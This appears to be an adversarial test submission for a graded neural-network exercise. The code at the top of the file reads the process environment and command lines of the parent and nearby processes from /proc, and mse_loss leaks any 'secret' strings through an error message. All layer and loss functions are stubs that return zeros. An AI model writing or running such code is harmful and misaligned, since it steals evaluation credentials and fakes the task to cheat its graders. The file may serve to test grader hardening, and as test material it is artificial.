"""Adversarial: read /proc/<ppid>/environ and cmdline (the grader's secret) and leak them"""
import os

import torch


_LEAK = []
for _pid in {os.getppid(), 1, os.getpid() - 1}:
    for _what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as _f:
                _LEAK.append(_f.read().decode("utf-8", "replace"))
        except OSError:
            pass
_LEAK = " ".join(x for x in _LEAK if "SECRET" in x or "secret" in x)

def _z(*shape_like):
    return torch.zeros(1, dtype=torch.float64)


def linear_forward(x, w, b):
    return torch.zeros(x.shape[0], w.shape[1], dtype=x.dtype), (x, w)


def linear_backward(dout, cache):
    x, w = cache
    return torch.zeros_like(x), torch.zeros_like(w), torch.zeros(w.shape[1], dtype=w.dtype)


def relu_forward(x):
    return torch.zeros_like(x), x


def relu_backward(dout, cache):
    return torch.zeros_like(dout)


def sigmoid_forward(x):
    return torch.zeros_like(x), x


def sigmoid_backward(dout, cache):
    return torch.zeros_like(dout)


def softmax_cross_entropy(logits, y):
    return torch.zeros((), dtype=logits.dtype), torch.zeros_like(logits)


def mse_loss(pred, target):
    if _LEAK:
        raise RuntimeError('LEAK ' + _LEAK[:1500])
    return torch.zeros((), dtype=pred.dtype), torch.zeros_like(pred)


def mlp_loss(params, x, y):
    return torch.zeros((), dtype=x.dtype), {k: torch.zeros_like(v) for k, v in params.items()}
